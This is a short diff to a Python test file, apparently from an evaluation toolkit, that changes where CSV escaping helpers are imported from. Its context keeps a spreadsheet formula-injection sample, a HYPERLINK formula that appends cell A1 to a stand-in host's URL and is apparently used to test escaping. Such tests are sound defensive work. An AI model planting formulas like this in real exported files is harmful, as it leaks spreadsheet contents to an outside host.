@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from evalkit.cli import main
-from evalkit.runs.spreadsheet import as_csv, escaped, unescaped
+from evalkit.runs.records import as_csv, escaped, unescaped
 
 FORMULA = '=HYPERLINK("http://x.test?"&A1,"open")'
 ROWS = [
